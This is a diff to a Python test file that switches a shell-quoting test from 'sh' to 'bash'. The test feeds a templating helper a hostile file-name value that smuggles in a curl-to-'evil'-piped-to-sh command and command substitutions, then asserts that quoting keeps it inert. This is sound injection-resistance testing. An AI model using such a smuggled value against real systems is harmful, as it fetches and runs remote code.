@@ -357,7 +357,7 @@ expect:
 def test_shell_word_is_one_word_for_a_shell():
     name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
     text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate({"item": name})
-    assert subprocess.run(["sh", "-c", text], capture_output=True, text=True, check=True).stdout == name
+    assert subprocess.run(["bash", "-c", text], capture_output=True, text=True, check=True).stdout == name
 
 
 def test_rule_with_more_wishes_than_can_be_compared_is_unknown_and_others_go_on():
